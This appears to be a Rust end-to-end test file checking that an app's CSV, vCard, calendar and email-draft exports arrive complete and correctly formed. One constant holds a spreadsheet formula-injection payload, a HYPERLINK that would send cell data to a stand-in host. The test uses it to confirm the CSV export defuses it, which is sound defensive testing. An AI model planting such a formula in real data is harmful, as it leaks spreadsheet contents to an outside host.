//! What other programs are handed: tables, cards, an entry for the calendar, an email begun.
//! That each format is escaped rightly is shown by the tests of `src/exchange/`; here it is
//! shown that the files arrive, whole and under their names.

use std::path::Path;

use ask_around_e2e::app::{contents, go_to_section, saved, title};
use ask_around_e2e::locator::{Locator, button, field, link};
use ask_around_e2e::{Browser, Server, dist};

const FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A1)";

fn with_sample(server: &Server) -> Browser {
    let browser = Browser::start(server);
    browser.open("#/data");
    browser.click(button("Load the sample"));
    browser.see(title("Today"));
    saved(&browser);
    browser
}

/// Downloads a file: its name and what is in it, byte by byte as text.
#[track_caller]
fn download(browser: &Browser, what: Locator) -> (String, String) {
    let file = browser.download(what);
    let name = file.file_name().unwrap_or_default().to_string_lossy().into_owned();
    (name, read(&file))
}

#[track_caller]
fn read(file: &Path) -> String {
    String::from_utf8(std::fs::read(file).unwrap()).expect("it is UTF-8")
}

/// Whether a name is `before`, a day and `after`.
fn is_dated(name: &str, before: &str, after: &str) -> bool {
    let day = name.strip_prefix(before).and_then(|rest| rest.strip_suffix(after));
    day.is_some_and(|day| day.len() == 10 && day.chars().all(|c| c.is_ascii_digit() || c == '-'))
}

/// The only stored talk with somebody.
#[track_caller]
fn talk_with(browser: &Browser, name: &str) -> String {
    let people = contents(browser, "contact");
    let person = people.iter().find(|(_, person)| person["name"] == name).expect("they are there");
    let talks = contents(browser, "interview");
    let talk = talks.iter().find(|(_, talk)| talk["contact"].as_str() == Some(person.0));
    talk.expect("there is a talk").0.clone()
}

#[track_caller]
fn open_person(browser: &Browser, name: &str) {
    go_to_section(browser, "People", "People");
    browser.click(link(&format!("{name}*")));
    browser.see(title(name));
}

#[test]
fn people_and_notes_go_into_a_spreadsheet_and_no_formula_with_them() {
    let server = Server::start(dist());
    let browser = with_sample(&server);
    open_person(&browser, "Ruth Abernathy");
    browser.fill(field("Role"), FORMULA);
    saved(&browser);
    let people = contents(&browser, "contact");
    let notes = contents(&browser, "answer");

    go_to_section(&browser, "Data", "Your data");
    let (name, table) = download(&browser, button("People as a table (CSV)"));
    assert!(is_dated(&name, "ask-around-people-", ".csv"), "{name}");
    assert!(table.starts_with("\u{feff}\"Name\",\"Role\",\"Organisation\","), "{table}");
    assert_eq!(table.matches("\r\n").count(), 1 + people.len(), "{table}");
    for person in people.values() {
        let name = person["name"].as_str().unwrap_or_default();
        assert!(table.contains(&format!("\r\n\"{name}\",")), "{name} is missing in {table}");
    }
    let defused = format!(",\"'{}\",", FORMULA.replace('"', "\"\""));
    assert!(table.contains(&defused), "{table}");

    let (name, table) = download(&browser, button("Notes as a table (CSV)"));
    assert!(is_dated(&name, "ask-around-notes-", ".csv"), "{name}");
    assert!(table.starts_with("\u{feff}\"Date\",\"Person\",\"Question\",\"Note\","), "{table}");
    for note in notes.values() {
        let text = note["text"].as_str().unwrap_or_default().replace('"', "\"\"");
        assert!(table.contains(&text), "{text:?} is missing in {table}");
    }
    assert!(table.contains("\"What I learned\""), "{table}");
    browser.assert_clean();
}

#[test]
fn people_go_into_an_address_book() {
    let server = Server::start(dist());
    let browser = with_sample(&server);
    let people = contents(&browser, "contact").len();
    go_to_section(&browser, "Data", "Your data");
    let (name, cards) = download(&browser, button("People for your address book (vCard)"));
    assert!(is_dated(&name, "ask-around-people-", ".vcf"), "{name}");
    assert_eq!(cards.matches("BEGIN:VCARD\r\n").count(), people, "{cards}");
    assert_eq!(cards.matches("END:VCARD\r\n").count(), people, "{cards}");

    open_person(&browser, "Tomasz Zieliński");
    let (name, card) = download(&browser, button("Save to address book"));
    assert_eq!(name, "contact-tomasz-zielinski.vcf");
    let shown = browser.value(field("Organisation"));
    for line in
        ["VERSION:4.0", "FN:Tomasz Zieliński", "N:Zieliński;Tomasz;;;", &format!("ORG:{shown}")]
    {
        assert!(card.contains(&format!("\r\n{line}\r\n")), "{line} is missing in {card}");
    }
    assert_eq!(card.matches("BEGIN:VCARD").count(), 1, "{card}");
    browser.assert_clean();
}

#[test]
fn a_talk_goes_into_a_calendar_once_it_has_a_date() {
    let server = Server::start(dist());
    let browser = with_sample(&server);
    let undated = talk_with(&browser, "Mateus Figueira");
    browser.open(&format!("#/interviews/{undated}/prepare/meeting"));
    browser.see(field("Date and time"));
    browser.counts(button("Add to my calendar"), 0);

    let talk = talk_with(&browser, "Leilani Kealoha");
    browser.open(&format!("#/interviews/{talk}/prepare/meeting"));
    let (name, entry) = download(&browser, button("Add to my calendar"));
    assert_eq!(name, "talk-with-leilani-kealoha.ics");
    assert!(entry.starts_with("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"), "{entry}");
    for line in [
        &format!("UID:{talk}"),
        "SUMMARY:Talk with Leilani Kealoha",
        "LOCATION:Harbour Museum café\\, by the anchor",
        "TRIGGER:-P1D",
        "TRIGGER:-PT15M",
    ] {
        assert!(entry.contains(&format!("\r\n{line}\r\n")), "{line} is missing in {entry}");
    }
    let starts = contents(&browser, "interview")[&talk]["starts_at"].clone();
    let starts = starts.as_str().unwrap_or_default().get(..19).unwrap_or_default();
    let starts = starts.replace(['-', ':'], "");
    assert!(entry.contains(&format!("\r\nDTSTART:{starts}Z\r\n")), "{starts}: {entry}");
    assert!(entry.lines().all(|line| line.len() <= 75), "{entry}");
    browser.assert_clean();
}

#[test]
fn the_thanks_are_begun_in_the_mail_program() {
    let server = Server::start(dist());
    let browser = with_sample(&server);
    let name = "Ifeoma Okafor";
    let talk = talk_with(&browser, name);
    browser.open(&format!("#/interviews/{talk}/debrief"));
    browser.fill(field("What I enjoyed, and what I will do with it"), "the vat & the dye?\n100 %");
    let letter = link("Write it in my mail program");
    browser.see(letter.clone());
    let href = || {
        let href = browser.js_on(letter.clone(), "return arguments[0].getAttribute('href')", &[]);
        href.as_str().unwrap_or_default().to_owned()
    };
    browser.wait_until("the draft is in the link", |_| href().contains("%26%20the%20dye"));
    let href = href();
    let (to, headers) = href.split_once('?').expect("there are headers");
    assert_eq!(to, "mailto:i.okafor@harbour.example.org");
    let names: Vec<_> =
        headers.split('&').map(|header| header.split_once('=').unwrap_or_default().0).collect();
    assert_eq!(names, ["subject", "body"], "{href}");
    assert!(headers.contains("%0D%0A") && !headers.contains("%0A%0A"), "{href}");
    let read = browser.js(
        "const of = new URLSearchParams(arguments[0].split('?')[1]); return of.get('body')",
        &[href.as_str().into()],
    );
    let draft = browser.texts(ask_around_e2e::locator::css(".card .prose")).join("");
    let flat = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert_eq!(flat(read.as_str().unwrap_or_default()), flat(&draft));

    // Without an address there is nobody to write to.
    open_person(&browser, name);
    browser.click(button("How to reach them*"));
    browser.fill(field("Email"), "ask her assistant");
    saved(&browser);
    browser.open(&format!("#/interviews/{talk}/debrief"));
    browser.see(button("Copy the draft"));
    browser.counts(letter, 0);
    browser.assert_clean();
}
